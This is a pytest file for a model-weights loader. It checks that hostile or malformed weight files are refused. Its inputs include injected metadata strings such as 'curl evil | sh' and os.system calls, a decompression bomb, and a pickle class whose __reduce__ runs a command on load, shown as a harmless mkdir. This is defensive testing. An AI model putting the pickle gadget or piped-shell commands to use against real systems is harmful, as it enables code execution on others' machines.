"""The weights file: it comes back as it went in, and a hostile one is refused without running anything."""

import json
import lzma
import os
import pickle
import time
import zipfile

import numpy as np
import pytest

from apps.training.engine.weights import (
    WeightsError,
    file_sha256,
    load_checkpoint_model,
    load_torch_model,
    read_metadata,
    save_weights,
)
from tests.training.engine.conftest import TINY_ARCHITECTURE, WEIGHTS, tiny_metadata


def repacked(path, tmp_path, change):
    """The weights file with its safetensors header changed by `change(header)`."""
    content = lzma.decompress(path.read_bytes())
    length = int.from_bytes(content[:8], "little")
    header = json.loads(content[8 : 8 + length])
    header = change(header) or header
    packed = json.dumps(header).encode()
    changed = tmp_path / "changed.podura"
    changed.write_bytes(lzma.compress(len(packed).to_bytes(8, "little") + packed + content[8 + length :]))
    return changed


def with_metadata(path, tmp_path, **changes):
    def change(header):
        document = json.loads(header["__metadata__"]["podura"]) | changes
        header["__metadata__"]["podura"] = json.dumps(document)

    return repacked(path, tmp_path, change)


def test_a_net_comes_back_as_it_was_saved(tiny_weights, tmp_path):
    import torch

    model, metadata = load_torch_model(tiny_weights)
    assert metadata == read_metadata(tiny_weights)
    assert (metadata.labels, metadata.image_size, metadata.trained_size_px) == (("disc", "bar"), 64, 20.0)
    again = tmp_path / "again.podura"
    assert save_weights(again, model, metadata) == file_sha256(again)
    picture = torch.rand(1, 3, 64, 64)
    with torch.inference_mode():
        first, second = model(picture)[0], load_torch_model(again)[0](picture)[0]
    assert torch.equal(first, second)
    assert first.shape == (1, 6, 8 * 8 + 4 * 4)


@pytest.mark.slow
def test_a_net_fine_tuned_from_more_classes_keeps_its_wider_branch(tmp_path):
    from apps.training.engine.environment import import_ultralytics

    import_ultralytics()
    from ultralytics.nn.tasks import DetectionModel

    base = DetectionModel(TINY_ARCHITECTURE | {"nc": 80}, ch=3, nc=80, verbose=False)
    tuned = DetectionModel(TINY_ARCHITECTURE, ch=3, nc=2, verbose=False)
    tuned.load(base, verbose=False)
    path = tmp_path / "tuned.podura"
    save_weights(path, tuned, tiny_metadata())
    assert load_torch_model(path)[0].model[-1].cv3[0][-1].in_channels == 80


def test_the_shipped_weights_are_small_and_say_where_they_come_from():
    assert WEIGHTS.stat().st_size < 6_000_000
    metadata = read_metadata(WEIGHTS)
    assert metadata.labels == ("collembola",)
    assert any("AGPL-3.0" in licence for licence in metadata.licences)
    assert any("CC BY-NC 4.0" in licence for licence in metadata.licences)
    assert "Zovko" in metadata.attribution
    assert metadata.recipe["seed"]


@pytest.mark.parametrize(
    "changes",
    [
        {"labels": []},
        {"labels": ["a", "a"]},
        {"labels": ["a\x00b", "c"]},
        {"labels": [1, 2]},
        {"labels": ["x" * 201, "y"]},
        {"image_size": 100_000},
        {"image_size": "640"},
        {"image_size": 100},
        {"object_size_px": 0},
        {"object_size_px": "large"},
        {"trained_size_px": -1},
        {"surprise": 1},
        {"architecture": None},
        {"architecture": {"backbone": [], "head": []}},
        {"architecture": TINY_ARCHITECTURE | {"download": "curl evil | sh"}},
        {"architecture": TINY_ARCHITECTURE | {"activation": "__import__('os').system('id')"}},
        {"architecture": TINY_ARCHITECTURE | {"head": [[-1, 1, "os.system", ["id"]]]}},
        {"architecture": TINY_ARCHITECTURE | {"head": [[-1, 1, "Conv", ["__import__('os')"]]]}},
        {"architecture": TINY_ARCHITECTURE | {"head": [[-1, 10**9, "Conv", [8]]]}},
        {"architecture": TINY_ARCHITECTURE | {"head": [[-1, 1, "Conv", [10**9]]]}},
        {"architecture": TINY_ARCHITECTURE | {"head": [[-1, 1, "Conv", [8]]] * 500}},
        {"architecture": TINY_ARCHITECTURE | {"head": ["Conv"]}},
        {"labels": "ab"},
        {"licences": "CC0"},
        {"object_size_px": True},
    ],
    ids="-".join,
)
def test_metadata_that_is_not_plain_is_refused(tiny_weights, tmp_path, changes):
    with pytest.raises(WeightsError):
        read_metadata(with_metadata(tiny_weights, tmp_path, **changes))


def test_numbers_that_are_none_are_refused(tiny_weights, tmp_path):
    def change(header):
        text = header["__metadata__"]["podura"]
        header["__metadata__"]["podura"] = text.replace('"object_size_px": 20.0', '"object_size_px": NaN')

    with pytest.raises(WeightsError):
        read_metadata(repacked(tiny_weights, tmp_path, change))


def test_metadata_nested_without_end_is_refused(tiny_weights, tmp_path):
    def change(header):
        header["__metadata__"]["podura"] = '{"labels": ' + "[" * 100_000 + "]" * 100_000 + "}"

    with pytest.raises(WeightsError):
        read_metadata(repacked(tiny_weights, tmp_path, change))


def test_metadata_larger_than_any_real_one_is_refused(tiny_weights, tmp_path):
    def change(header):
        header["__metadata__"]["podura"] = " " * 300_000 + header["__metadata__"]["podura"]

    with pytest.raises(WeightsError):
        read_metadata(repacked(tiny_weights, tmp_path, change))


@pytest.mark.parametrize(
    "content",
    [b"", b"PK\x03\x04", b"\xfd7zXZ\x00", b"\xfd7zXZ\x00" + b"\x00" * 50, lzma.compress(b""), lzma.compress(b"\xff" * 99),
     pickle.dumps({"model": 1}), b"version https://git-lfs.github.com/spec/v1\noid sha256:4d7a\nsize 12345\n"],
)  # fmt: skip
def test_what_is_no_weights_file_is_refused(tmp_path, content):
    path = tmp_path / "weights.podura"
    path.write_bytes(content)
    with pytest.raises(WeightsError):
        read_metadata(path)


def test_a_cut_file_is_refused(tiny_weights, tmp_path):
    path = tmp_path / "cut.podura"
    path.write_bytes(tiny_weights.read_bytes()[:-100])
    with pytest.raises(WeightsError, match="cut"):
        load_torch_model(path)
    path.write_bytes(tiny_weights.read_bytes()[:100])
    with pytest.raises(WeightsError, match="header"):
        read_metadata(path)


def test_the_metadata_is_read_without_the_tensors(tiny_weights, tmp_path):
    """Whoever accepts weights in the console waits for it."""
    path = tmp_path / "large.podura"
    content = lzma.decompress(tiny_weights.read_bytes())
    path.write_bytes(lzma.compress(content + bytes(100 * 1024 * 1024), preset=0))
    started = time.process_time()
    assert read_metadata(path).labels == ("disc", "bar")
    assert time.process_time() - started < 0.1


@pytest.mark.slow
def test_a_bomb_is_not_unpacked(tmp_path, monkeypatch):
    monkeypatch.setattr("apps.training.engine.weights.MAX_UNPACKED_BYTES", 1_000_000)
    path = tmp_path / "bomb.podura"
    path.write_bytes(lzma.compress(b"\0" * 50_000_000))
    with pytest.raises(WeightsError, match="unpacks to more"):
        load_torch_model(path)
    with pytest.raises(WeightsError, match="impossible length"):
        read_metadata(path)


@pytest.mark.parametrize("value", [float("nan"), float("inf")])
def test_a_net_that_is_not_finite_is_neither_saved_nor_loaded(tiny_weights, tmp_path, value):
    import torch
    from safetensors.torch import load, save

    model, metadata = load_torch_model(tiny_weights)
    with torch.no_grad():
        model.model[0].conv.weight[0, 0, 0, 0] = value
    with pytest.raises(WeightsError, match="half precision"):
        save_weights(tmp_path / "no.podura", model, metadata)
    assert not (tmp_path / "no.podura").exists()

    content = lzma.decompress(tiny_weights.read_bytes())
    tensors = load(content)
    tensors["model.0.conv.weight"][0, 0, 0, 0] = value
    length = int.from_bytes(content[:8], "little")
    path = tmp_path / "hostile.podura"
    path.write_bytes(lzma.compress(save(tensors, json.loads(content[8 : 8 + length])["__metadata__"])))
    with pytest.raises(WeightsError, match="not finite"):
        load_torch_model(path)


def test_tensors_of_another_net_are_refused(tiny_weights, tmp_path):
    narrower = TINY_ARCHITECTURE | {"scales": {"n": [0.33, 0.125, 256]}}
    with pytest.raises(WeightsError, match="does not belong"):
        load_torch_model(with_metadata(tiny_weights, tmp_path, architecture=narrower))


def test_a_missing_tensor_is_noticed(tiny_weights, tmp_path):
    def change(header):
        del header["model.0.conv.weight"]

    with pytest.raises(WeightsError):
        load_torch_model(repacked(tiny_weights, tmp_path, change))


class Burglar:
    """A pickle that makes a folder when it is loaded."""

    def __init__(self, path):
        self.path = str(path)

    def __reduce__(self):
        return os.mkdir, (self.path,)


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["bare pickle", "torch archive"])
def test_a_checkpoint_that_is_a_program_is_refused_and_not_run(tmp_path, kind):
    trace, path = tmp_path / "broken-in", tmp_path / "yolo.pt"
    content = pickle.dumps({"model": Burglar(trace)}, protocol=2)
    if kind == "bare pickle":
        path.write_bytes(content)
    else:
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("yolo/data.pkl", content)
            archive.writestr("yolo/version", "3\n")
            archive.writestr("yolo/byteorder", "little")
    with pytest.raises(WeightsError):
        load_checkpoint_model(path)
    assert not trace.exists()
    pickle.loads(content)  # the attack is real: an ordinary loader would have run it
    assert trace.exists()


def test_a_checkpoint_that_is_missing_is_not_looked_for_on_the_internet(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(WeightsError, match="no such file"):
        load_checkpoint_model(tmp_path / "yolov8n.pt")


def test_reading_metadata_needs_no_torch():
    import subprocess
    import sys

    code = (
        "import sys; from pathlib import Path; from apps.training.engine.weights import read_metadata;"
        f"read_metadata(Path({str(WEIGHTS)!r})); print('torch' in sys.modules, 'django' in sys.modules)"
    )
    answer = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert answer.stdout.split() == ["False", "False"]


def test_half_precision_is_all_that_is_stored(tiny_weights):
    from safetensors.numpy import load

    assert {v.dtype for v in load(lzma.decompress(tiny_weights.read_bytes())).values()} == {
        np.dtype("float16")
    }
